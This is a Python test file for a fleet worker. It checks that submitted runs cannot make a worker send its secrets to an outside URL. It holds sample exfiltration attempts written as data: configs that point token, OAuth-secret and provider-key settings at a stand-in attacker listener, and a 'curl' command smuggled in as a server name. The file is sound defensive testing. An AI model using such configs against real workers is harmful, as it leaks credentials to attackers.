"""Hole 2: a submitter could make a worker send its secrets anywhere (`submit --server-url http://ATTACKER/mcp
--token-env VAR`: the worker read VAR and sent it as a bearer token; the same for an OAuth client secret and a
provider key through a base URL). A worker now starts only the servers of its own servers file, by name, and takes
its model's address from its own settings: every way of asking for more fails the run with a readable reason, and
the attacker's listener hears nothing."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest

from fleet.fleet_procs import Worker, start_worker, started, support_server
from helpers.cli import clean_env, run_toolwire
from helpers.loopback import LoopbackServer
from helpers.polling import wait_until
from toolwire_client.config import OAuthClientSpec, RunConfig, ServerSpec
from toolwire_client.fleet.submit import FleetClient, submit
from toolwire_client.store import open_store

pytestmark = pytest.mark.timeout(180)

SECRET = "worker-secret-value"
HEARD: list[str] = []
HEARD_LOCK = threading.Lock()


class Listener(BaseHTTPRequestHandler):
    """The attacker's server: records every request line and header it gets, answers 404."""

    def _heard(self) -> None:
        with HEARD_LOCK:
            HEARD.append(f"{self.command} {self.path} {dict(self.headers)}")
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = _heard

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[str]:
    HEARD.clear()
    with LoopbackServer(Listener, name="attacker") as server:
        yield server.base_url


@pytest.fixture
def worker(tmp_path: Path) -> Iterator[tuple[str, Worker]]:
    db = str(tmp_path / "runs.db")
    secrets = {"SECRET_VAR": SECRET, "OPENAI_API_KEY": SECRET, "ANTHROPIC_API_KEY": SECRET}
    w = start_worker(db, tmp_path / "worker.log", concurrency=2, env_extra=secrets, servers=[support_server(tmp_path)])
    try:
        wait_until(lambda: started(w), "the worker to take runs", timeout_s=60, interval_s=0.1)
        yield db, w
    finally:
        w.stop()


def test_submit_takes_server_names_only(tmp_path: Path, listener: str) -> None:
    db = str(tmp_path / "runs.db")
    for extra in (
        ("--server-url", f"{listener}/mcp", "--token-env", "SECRET_VAR"),
        ("--server", f"curl {listener}"),
        ("--server", "support", "--base-url", listener),
    ):
        refused = run_toolwire("submit", "a task", "--model", "scripted:recovers", *extra, "--db", db, env=clean_env())
        assert refused.returncode == 2 and "Traceback" not in refused.stderr, refused.stderr
        assert len(refused.stderr.strip().splitlines()) <= 3, refused.stderr  # click's usage line, then the error
    named = run_toolwire("submit", "a task", "--model", "scripted:recovers", "--server", "curl", "--db", db)
    assert named.returncode == 0  # a name: the worker looks it up (and refuses it if it has none)


async def test_a_submitted_run_cannot_send_a_worker_secret_anywhere(
    tmp_path: Path, listener: str, worker: tuple[str, Worker]
) -> None:
    db, w = worker
    oauth = OAuthClientSpec(token_url=f"{listener}/token", client_id="x", client_secret_env="SECRET_VAR")
    attempts = {
        "token to a URL": RunConfig(
            model="scripted:recovers", servers=[ServerSpec(name="http", url=f"{listener}/mcp", token_env="SECRET_VAR")]
        ),
        "OAuth secret to a token URL": RunConfig(
            model="scripted:recovers", servers=[ServerSpec(name="http", url=f"{listener}/mcp", oauth=oauth)]
        ),
        "provider key to a base URL": RunConfig(
            model="openai:gpt-x", base_url=listener, servers=[ServerSpec(name="support")]
        ),
        "a known name with the attacker's URL": RunConfig(
            model="scripted:recovers",
            servers=[ServerSpec(name="support", url=f"{listener}/mcp", token_env="SECRET_VAR")],
        ),
        "a name the worker lacks": RunConfig(model="scripted:recovers", servers=[ServerSpec(name="billing")]),
    }
    store, fleet = await open_store(db), FleetClient(db)
    try:
        ids = {}
        for what, config in attempts.items():
            ids[what] = await submit(store, fleet, "What does order A123 cost with GST?", config)
    finally:
        fleet.close()
    try:
        for what, run_id in ids.items():
            waited = run_toolwire("wait", run_id, "--db", db, "--timeout", "60", timeout_s=90)
            ended = await store.load(run_id)
            if what == "a known name with the attacker's URL":
                # the worker's own `support` ran, not the URL the run gave
                assert ended.status == "done" and "5900.0 rupees" in (ended.final_answer or ""), waited.stdout
                continue
            assert waited.returncode == 1 and ended.status == "failed", (what, waited.stdout, w.log.read_text())
            assert ended.report is not None and "the worker could not drive the run" in ended.report
            expected = "model at" if what.startswith("provider") else "which is not in this worker's servers file"
            assert expected in ended.report, (what, ended.report)
    finally:
        await store.aclose()
    with HEARD_LOCK:
        assert HEARD == [], f"the attacker heard: {HEARD}"
    assert SECRET not in w.log.read_text()
